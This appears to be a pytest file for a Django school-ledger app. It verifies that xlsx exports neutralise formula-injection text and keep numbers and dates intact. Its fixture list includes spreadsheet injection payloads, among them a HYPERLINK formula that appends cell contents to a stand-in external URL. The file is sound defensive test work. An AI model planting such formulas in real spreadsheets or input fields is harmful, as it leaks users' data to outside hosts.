"""A cell that a spreadsheet would run as a formula is exported as text: a name typed as
`=HYPERLINK(…)`, `+1`, `-2+3` or `@SUM(A1)` opens in Excel as those characters, never as a
formula, while numbers (negative ones too) and dates stay numbers and dates."""

from __future__ import annotations

import datetime as dt
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import write_xlsx
from tests.factories import SchoolFactory

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "+86-453-1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def cells(content: bytes) -> list[list]:
    sheet = load_workbook(BytesIO(content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(BytesIO(content)) as book:
        return "".join(
            book.read(name).decode()
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_formula_text_is_written_as_text_and_numbers_stay_numbers():
    rows = [
        ("名称", "金额", "日期"),
        *[(text, Decimal("-5.00"), dt.date(2023, 9, 1)) for text in DANGEROUS],
    ]
    content = write_xlsx(rows, sheet_title="测试")
    body = cells(content)[1:]
    assert "<f>" not in sheet_xml(content)  # no formula anywhere in the workbook
    for text, (name, amount, day) in zip(DANGEROUS, body, strict=True):
        assert name.data_type == "s" and name.value == "'" + text
        assert amount.data_type == "n" and amount.value == -5
        assert day.is_date and day.value.date() == dt.date(2023, 9, 1)


def test_a_neutral_text_is_left_as_it_is():
    content = write_xlsx([("名称",), ("长汀镇中心小学",), ("1+1",)], sheet_title="测试")
    assert [row[0].value for row in cells(content)[1:]] == ["长汀镇中心小学", "1+1"]


@pytest.mark.django_db
def test_a_ledger_export_neutralises_what_an_officer_typed(county_client, township):
    for index, text in enumerate(DANGEROUS):
        SchoolFactory(township=township, code=f"21108300{index + 10}", name=text)
    response = county_client.get(reverse("school-export"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert "<f>" not in sheet_xml(content)
    values = {cell.value for row in cells(content)[1:] for cell in row if cell.value}
    assert {"'" + text for text in DANGEROUS} <= values
    assert not set(DANGEROUS) & values
